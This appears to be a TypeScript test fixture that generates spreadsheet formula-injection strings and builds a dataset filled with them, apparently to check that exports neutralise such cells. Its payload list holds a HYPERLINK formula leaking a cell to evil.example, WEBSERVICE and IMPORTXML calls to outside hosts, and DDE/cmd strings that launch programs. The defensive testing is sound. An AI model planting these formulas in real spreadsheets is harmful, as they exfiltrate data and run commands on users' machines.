import fc from "fast-check";
import { contentHash, sha256Hex } from "../../src/core/dataset/contentHash";
import type { Dataset, Event, Figure, Source } from "../../src/core/dataset/schema";
import { FC_SEED } from "./fcOptions";

/** Text that Excel would turn into a formula (or parse) if it were typed into a cell. */
export const injection: fc.Arbitrary<string> = fc
  .tuple(
    fc.constantFrom("=", "+", "-", "@", "==", "'=", "''+", "=-", "-=", "@@"),
    fc.oneof(
      {
        weight: 1,
        arbitrary: fc.constantFrom(
          'HYPERLINK("https://evil.example/?leak="&A1,"Click")',
          "cmd|' /C calc'!A0",
          "1+1",
          "SUM(A1:A9)",
          'WEBSERVICE("https://evil.example")',
          "2+5",
          "5",
          "A1",
          'IMPORTXML(CONCAT("https://x/", A1), "//a")',
          'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
        ),
      },
      { weight: 4, arbitrary: fc.string({ minLength: 1, maxLength: 30 }) },
    ),
  )
  .map(([prefix, body]) => prefix + body);

/** `count` distinct injection strings from the suite's seed: the same on every run. */
export function injections(count: number, salt = 0): string[] {
  const distinct = new Set(fc.sample(injection, { seed: FC_SEED + salt, numRuns: 3 * count }));
  if (distinct.size < count) throw new Error(`only ${distinct.size} distinct strings generated`);
  return [...distinct].slice(0, count);
}

/**
 * A valid dataset whose every piece of document text (quote, metric, actor, note, period,
 * event title and parties, source title and publisher) is one of `texts`, cycled; figure i has
 * id `fig-i` whatever the texts, so two datasets from different texts are releases of one table.
 */
export function injectionDataset(texts: string[], figures: number, version = "1.0.0"): Dataset {
  const t = (i: number) => texts[i % texts.length];
  const docs = ["000_aaaaaaaaaaaaaaaa", "001_bbbbbbbbbbbbbbbb"];
  const bodies: string[][] = [[], []];
  const offsets = [0, 0];
  const ref = (d: number, quote: string) => {
    const start = offsets[d];
    bodies[d].push(quote);
    offsets[d] += quote.length + 1;
    return { doc: docs[d], quote, start, end: start + quote.length };
  };
  const figs: Figure[] = Array.from({ length: figures }, (_, i) => ({
    id: `fig-${i}`,
    value: i + 1,
    unit: "count",
    qualifier: "exact",
    metric: t(5 * i),
    category: "policy",
    actor: t(5 * i + 1),
    place: null,
    period: { text: t(5 * i + 2), start: null, end: null },
    fact: null,
    note: t(5 * i + 3),
    source: ref(i % 2, t(5 * i + 4)),
  }));
  const events: Event[] = Array.from({ length: Math.max(1, Math.floor(figures / 4)) }, (_, i) => ({
    id: `event-${i}`,
    date: "2023-12-04",
    precision: "day",
    relative: false,
    dateNote: null,
    kind: "policy",
    category: "policy",
    title: t(3 * i + 7),
    parties: [t(3 * i + 8)],
    place: null,
    fact: null,
    source: ref(i % 2, t(3 * i + 9)),
  }));
  const sources: Source[] = docs.map((doc, d) => {
    const text = bodies[d].join(" ") || "x";
    return {
      id: doc,
      file: `${doc}.txt`,
      title: t(d + 11),
      publisher: t(d + 13),
      publisherNote: null,
      author: null,
      published: "2024-01-01",
      publishedNote: null,
      kind: "news",
      url: null,
      sha256: sha256Hex(text),
      rights: null,
      text,
    };
  });
  const text = (key: string, title: string) => ({
    key,
    title,
    type: "string" as const,
    unit: null,
    format: "@",
    description: null,
  });
  const dataset: Dataset = {
    schemaVersion: 1,
    version,
    contentHash: "",
    generatedFrom: {
      documents: sources.map((s) => ({ doc: s.id, file: s.file, sha256: s.sha256 })),
      annotationsSha256: sha256Hex("injection"),
      extractor: "injection",
    },
    sources,
    tables: [
      {
        id: "figures",
        title: "Figures",
        description: "Every figure.",
        kind: "figures",
        columns: [
          text("metric", "Metric"),
          {
            key: "value",
            title: "Value",
            type: "number",
            unit: null,
            format: "#,##0",
            description: null,
          },
          text("actor", "Actor"),
          text("period.text", "Period"),
          text("note", "Note"),
          text("source.quote", "Quote"),
        ],
        rows: figs.map((f) => f.id),
      },
      {
        id: "events",
        title: "Events",
        description: "Every event.",
        kind: "events",
        columns: [
          {
            key: "date",
            title: "Date",
            type: "date",
            unit: null,
            format: "yyyy-mm-dd",
            description: null,
          },
          text("title", "Title"),
          text("source.quote", "Quote"),
        ],
        rows: events.map((e) => e.id),
      },
    ],
    figures: figs,
    events,
    conflicts: [],
  };
  dataset.contentHash = contentHash(dataset as unknown as Record<string, unknown>);
  return dataset;
}
